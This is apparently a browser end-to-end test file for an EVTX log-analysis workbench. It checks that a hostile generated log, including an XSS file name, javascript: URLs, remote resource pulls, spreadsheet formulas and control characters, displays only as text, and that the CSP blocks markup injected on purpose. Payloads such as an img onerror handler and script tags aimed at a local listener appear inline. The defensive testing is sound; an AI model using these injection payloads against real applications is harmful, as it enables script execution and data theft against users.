/**
 * Attacks on the analyst, in real Chromium: a log written with @evtxhunt/generate's hostile
 * builder (markup, script, event handlers, `javascript:` URLs, unbalanced tags, remote pulls,
 * formulas, controls, XML breakers in values, field names, provider, computer and file name) is
 * taken through every view of the workbench and its exports, and through `hunt --format html`.
 * The DOM must show it all as text: no element it names appears, no handler runs (each payload
 * would push its name to `window.__pwned`), the record XML parses. The remote pulls name
 * http://127.0.0.2:PORT, a listener this test starts: no request may reach it. The CSP is then
 * tested as a second line: markup injected on purpose must be refused, with the violations
 * reported, and still nothing may reach the listener.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';

import type { Page } from 'playwright-core';

import { hostileComputer, hostilePayloads, hostileSysmonLog } from '@evtxhunt/generate';

import {
  ARTIFACTS,
  SKIP_BROWSER,
  downloadExport,
  openBrowser,
  startWeb,
  type WebServer,
} from '../support/e2e.js';
import { REPO } from '../support/paths.js';

/** What reached the listener standing in for the attacker's server. */
const reached: string[] = [];
let listener: Server;
let remote = '';
let folder = '';
let logPath = '';
let web: WebServer;
let session: Awaited<ReturnType<typeof openBrowser>>;

/** A file name that is an attack of its own. */
const FILE_NAME = `"><img src=x onerror=(window.__pwned=window.__pwned||[]).push('file')>.evtx`;

before(async () => {
  if (SKIP_BROWSER) return;
  listener = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.2', resolve));
  const address = listener.address();
  if (address === null || typeof address === 'string') throw new Error('listener has no port');
  remote = `http://127.0.0.2:${address.port}`;

  folder = await mkdtemp(join(tmpdir(), 'evtxhunt-hostile-'));
  logPath = join(folder, FILE_NAME);
  await writeFile(logPath, hostileSysmonLog(remote));
  web = await startWeb();
  session = await openBrowser();
});

after(async () => {
  await session?.browser.close();
  web?.stop();
  listener?.close();
  if (folder !== '') await rm(folder, { recursive: true, force: true });
});

const browserTest = (name: string, body: () => Promise<void>) =>
  test(name, { skip: SKIP_BROWSER }, body);

/** A page that records CSP violations in `window.__csp` from its first script on. */
async function watchedPage(): Promise<Page> {
  const page = await session.context.newPage();
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { __csp: seen });
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return page;
}

/** What the page shows of an attack: ran payloads, injected elements, handlers, bad URLs. */
interface Injection {
  readonly ran: unknown;
  readonly elements: string[];
  readonly handlers: string[];
  readonly urls: string[];
}

/** Looks through the whole DOM for anything the log's values could have made. */
function injection(page: Page): Promise<Injection> {
  return page.evaluate(() => {
    const all = [...document.querySelectorAll('*')];
    const ours = (url: string) =>
      url === '' || new URL(url, location.href).origin === location.origin;
    const foreign = all.filter((element) => {
      const tag = element.tagName.toLowerCase();
      if (['img', 'iframe', 'object', 'embed', 'b', 'i', 'image'].includes(tag)) return true;
      if (tag === 'style') return element.parentElement !== document.head;
      if (tag === 'script') return !ours((element as HTMLScriptElement).src);
      if (tag === 'link') return !ours((element as HTMLLinkElement).href);
      return tag === 'svg' && element.closest('[class]') === null;
    });
    const attributes = all.flatMap((element) =>
      [...element.attributes].map((attribute) => [element.tagName, attribute] as const),
    );
    return {
      ran: (window as { __pwned?: unknown }).__pwned,
      elements: foreign.map((element) => element.outerHTML.slice(0, 120)),
      handlers: attributes
        .filter(([, attribute]) => attribute.name.startsWith('on'))
        .map(([tag, attribute]) => `${tag} ${attribute.name}`),
      urls: attributes
        .filter(([, a]) => ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(a.name))
        .filter(([, a]) => /^\s*(javascript|data|vbscript):/i.test(a.value) || !ours(a.value))
        .map(([tag, a]) => `${tag} ${a.name}=${a.value}`),
    };
  });
}

const CLEAN: Injection = { ran: undefined, elements: [], handlers: [], urls: [] };

async function assertClean(page: Page, where: string): Promise<void> {
  assert.deepEqual(await injection(page), CLEAN, `after ${where}`);
  assert.deepEqual(reached, [], `after ${where}, the listener was reached`);
}

/** The page with the hostile log read and hunted. */
async function hostilePage(): Promise<Page> {
  const page = await watchedPage();
  await page.goto(web.url);
  await page.setInputFiles('input[aria-label="Open EVTX files"]', [logPath]);
  await page.waitForFunction(
    () =>
      document.querySelector('.file[data-state="done"]') !== null &&
      document.querySelector('.hunt-status')?.textContent?.startsWith('Hunted') === true,
    undefined,
    { timeout: 60_000 },
  );
  return page;
}

/** Adds the column named `field` through the chooser. */
async function addColumn(page: Page, field: string): Promise<void> {
  await page.getByRole('button', { name: 'Columns' }).click();
  const chooser = page.getByRole('dialog', { name: 'Choose columns' });
  await chooser.getByRole('searchbox', { name: 'Find a field' }).fill(field);
  await chooser.getByRole('checkbox').first().check();
  await chooser.getByRole('button', { name: 'Done' }).click();
}

browserTest('the table, columns, facets and details show every attack as text', async () => {
  const payloads = hostilePayloads(remote);
  const page = await hostilePage();
  await assertClean(page, 'loading');

  assert.ok((await page.locator('.file').innerText()).includes(FILE_NAME));
  for (const field of ['CommandLine', 'DestinationHostname', 'javascript:', 'onerror']) {
    await addColumn(page, field);
  }
  const grid = page.getByRole('grid').first();
  const table = await grid.innerText();
  assert.ok(table.includes(payloads.javascriptUrl), 'the javascript: URL shows as text');
  assert.ok(table.includes(`${payloads.remoteImage}${payloads.javascriptUrl}`));
  assert.ok(table.includes(payloads.script));
  const shown = '\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m\\u202etxt.exe\\x7f⏎';
  assert.ok(table.includes(shown), 'controls and the bidi override drawn as escapes');
  const headers = await grid.getByRole('columnheader').allInnerTexts();
  assert.ok(
    headers.some((header) => header.includes(payloads.imageHandler)),
    headers.join('|'),
  );
  await assertClean(page, 'the table with hostile columns');

  const facets = await page.getByRole('region', { name: 'Facets' }).innerText();
  assert.ok(facets.includes('WKS-'), facets);
  assert.ok(facets.includes(`Evil-Provider${payloads.imageHandler}`));
  await page.locator('.facet-add select').selectOption({ label: payloads.imageHandler });
  const facet = page.getByRole('region', { name: payloads.imageHandler, exact: true });
  // The facet is drawn on the next render: wait for it (a missing one times out and fails).
  await facet.waitFor({ timeout: 5000 }).catch(() => undefined);
  assert.equal(await facet.count(), 1, 'the facet is named by its heading, spaces and all');
  await assertClean(page, 'a facet on a hostile field name');

  const rows = Number(await grid.getAttribute('aria-rowcount')) - 1;
  assert.equal(rows, 7);
  for (let position = 0; position < rows; position++) {
    await page.locator(`[role="row"][aria-rowindex="${position + 2}"]`).click();
    await page.keyboard.press('Enter');
    await page.locator('.details-xml[aria-busy="false"]').waitFor();
    const problem = await page.locator('.details-xml').evaluate((pre) => {
      const doc = new DOMParser().parseFromString(pre.textContent ?? '', 'application/xml');
      return doc.querySelector('parsererror')?.textContent ?? doc.documentElement.localName;
    });
    assert.equal(problem, 'Event', `record at row ${position + 1}: its XML does not parse`);
    await assertClean(page, `the details of row ${position + 1}`);
  }
  const pane = await page.locator('.details').innerText();
  assert.ok(pane.includes(payloads.remoteStyle), 'the last record keeps its values as text');
  const names = await page.locator('.details dt').allInnerTexts();
  assert.ok(
    names.some((name) => name.includes('\\u202etxt.exe\\x7f')),
    names.join('|'),
  );
  await page.screenshot({ path: `${ARTIFACTS}/hostile-01-details.png` });

  const csp = await page.evaluate(() => (window as { __csp?: string[] }).__csp);
  assert.deepEqual(csp, [], 'escaping left the CSP nothing to refuse');
  await page.close();
});

browserTest('the hunting views and the exports show every attack as text', async () => {
  const payloads = hostilePayloads(remote);
  const page = await hostilePage();

  await page.getByRole('tab', { name: 'Outbound connections' }).click();
  await page.locator('.pivot').waitFor();
  for (const group of await page.getByRole('button', { name: /connections?: show them/ }).all()) {
    await group.click();
    await assertClean(page, 'an outbound group');
  }
  assert.ok((await page.locator('.pivot').innerText()).includes(payloads.imageHandler));

  await page.getByRole('tab', { name: /^Findings/ }).click();
  const findings = page.getByRole('region', { name: 'Findings' }).locator('button.finding-item');
  assert.equal(await findings.count(), 3);
  for (const finding of await findings.all()) {
    await finding.click();
    await page.getByRole('region', { name: 'The open finding' }).waitFor();
    await assertClean(page, `finding ${await finding.innerText()}`);
  }
  await findings.first().click();
  const detail = page.getByRole('region', { name: 'The open finding' });
  const story = await detail.locator('.story-steps').innerText();
  assert.ok(story.includes(`${payloads.script}${payloads.remoteStyle}.evil.example`), story);
  assert.ok(story.includes(payloads.remoteScript));
  assert.ok((await detail.innerText()).includes(hostileComputer(payloads).slice(0, 20)));
  await page.screenshot({ path: `${ARTIFACTS}/hostile-02-chain.png` });

  await page.getByRole('tab', { name: 'Events' }).click();
  for (const field of FORMULA_FIELDS) await addColumn(page, field);
  await page.getByRole('tab', { name: 'Export' }).click();
  const [note, header, ...rows] = csvRows(
    (await downloadExport(page, 'Export events as CSV')).text,
  );
  assert.match(note?.[0] ?? '', /^# Formula neutralisation/);
  const inert = (cell: string) => cell === '-' || !/^\s*[=+\-@\t\r\n]/.test(cell);
  assert.deepEqual(
    rows.flat().filter((cell) => !inert(cell)),
    [],
  );
  const start = rows.find((row) => row[3] === '1' && row[2] === '1');
  const at = (field: string) => start?.[header!.indexOf(field)];
  const [formula, , minus, atSign, tab, cr] = payloads.formulas;
  assert.equal(at('Company'), `'${formula}`);
  assert.equal(at('CurrentDirectory'), `'${minus}`);
  assert.equal(at('ParentUser'), `'${atSign}`);
  assert.equal(at('FileVersion'), `'${tab}`);
  assert.equal(at('OriginalFileName'), `'${cr}`);
  const jsonl = (await downloadExport(page, 'Export events as JSON Lines')).text;
  const commandLines = jsonl
    .trimEnd()
    .split('\n')
    .map((line) => (JSON.parse(line) as { data?: { CommandLine?: string } }).data?.CommandLine);
  assert.ok(commandLines.includes(payloads.formulas[1]), 'JSON Lines keep values exactly');
  await downloadExport(page, 'Export findings as JSON Lines');
  await assertClean(page, 'the exports');

  const csp = await page.evaluate(() => (window as { __csp?: string[] }).__csp);
  assert.deepEqual(csp, []);
  await page.close();
});

/** Fields of the hostile log that start with a formula. */
const FORMULA_FIELDS = [
  'Company',
  'CurrentDirectory',
  'ParentUser',
  'FileVersion',
  'OriginalFileName',
];

/** RFC 4180 CSV as rows of cells (quoted cells may hold commas, quotes and line breaks). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/y;
  let row: string[] = [];
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text);
    if (match === null) throw new Error(`not CSV at ${cell.lastIndex}`);
    const [, raw = '', end] = match;
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (end !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

/** Injects, on purpose, the markup escaping keeps out; returns the violations reported. */
async function injectOnPurpose(page: Page): Promise<string[]> {
  await page.evaluate((origin) => {
    const holder = document.createElement('div');
    holder.innerHTML =
      `<img src="${origin}/control.png">` +
      `<link rel="stylesheet" href="${origin}/control.css">` +
      `<img src=x onerror="(window.__pwned=window.__pwned||[]).push('control')">`;
    document.body.append(holder);
    const script = document.createElement('script');
    script.src = `${origin}/control.js`;
    document.head.append(script);
    const inline = document.createElement('script');
    inline.textContent = "(window.__pwned=window.__pwned||[]).push('inline')";
    document.head.append(inline);
  }, remote);
  await page.waitForFunction(() => ((window as { __csp?: string[] }).__csp ?? []).length >= 5);
  await page.waitForTimeout(300);
  return page.evaluate(() => (window as { __csp?: string[] }).__csp ?? []);
}

browserTest(
  'the CSP refuses injected markup: nothing loads, no handler or inline script runs',
  async () => {
    const page = await hostilePage();
    const blocked: string[] = [];
    page.on('requestfailed', (request) =>
      blocked.push(`${request.url()} ${request.failure()?.errorText ?? ''}`),
    );
    const violations = await injectOnPurpose(page);

    const directives = new Set(violations.map((violation) => violation.split(' ')[0]));
    assert.deepEqual([...directives].sort(), [
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]);
    assert.ok(violations.includes(`img-src ${remote}/control.png`), violations.join('\n'));
    assert.ok(violations.includes(`script-src-elem ${remote}/control.js`));
    assert.ok(violations.includes(`style-src-elem ${remote}/control.css`));
    assert.equal(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned), undefined);
    assert.deepEqual(reached, []);
    // Chromium names the refused requests to its request events, but fails each on the CSP.
    assert.deepEqual(
      blocked.filter((request) => request.startsWith(remote)).sort(),
      ['css', 'js', 'png'].map((ext) => `${remote}/control.${ext} csp`),
    );
    await page.close();
  },
);

browserTest('the HTML report of `hunt` shows every attack as text and loads nothing', async () => {
  const payloads = hostilePayloads(remote);
  const report = join(folder, 'report.html');
  const cli = `${REPO}packages/cli/dist/src/main.js`;
  const run = spawnSync(process.execPath, [
    cli,
    'hunt',
    '--format',
    'html',
    '--out',
    report,
    logPath,
  ]);
  assert.equal(run.status, 0, run.stderr.toString());

  const page = await watchedPage();
  await page.goto(pathToFileURL(report).href);
  assert.deepEqual(await injection(page), CLEAN);
  const text = await page.locator('body').innerText();
  assert.ok(text.includes(payloads.script) && text.includes(payloads.remoteImage));
  assert.ok(text.includes('\\x1b[2J'), 'terminal escapes shown escaped in the report too');
  await page.screenshot({ path: `${ARTIFACTS}/hostile-03-report.png`, fullPage: true });

  const violations = await injectOnPurpose(page);
  assert.ok(violations.includes(`img-src ${remote}/control.png`), violations.join('\n'));
  assert.equal(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned), undefined);
  assert.deepEqual(reached, []);
  await page.close();
});
